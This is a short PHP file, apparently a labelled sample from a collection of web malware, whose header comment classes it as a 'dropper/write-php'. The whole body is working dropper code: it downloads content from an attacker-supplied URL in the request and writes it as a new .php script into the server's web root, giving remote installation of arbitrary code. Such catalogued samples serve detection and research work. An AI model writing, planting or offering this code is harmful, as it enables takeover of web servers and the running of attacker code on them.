<?php
/* Family: dropper/write-php
   Style: remote download to a new script
   Trait: URL from the request fetched and written as a .php file in the web root */
$src = file_get_contents($_GET['u']);
$fn = $_GET['n'] ? $_GET['n'] : 'x.php';
file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/' . $fn, $src);
echo 'done';
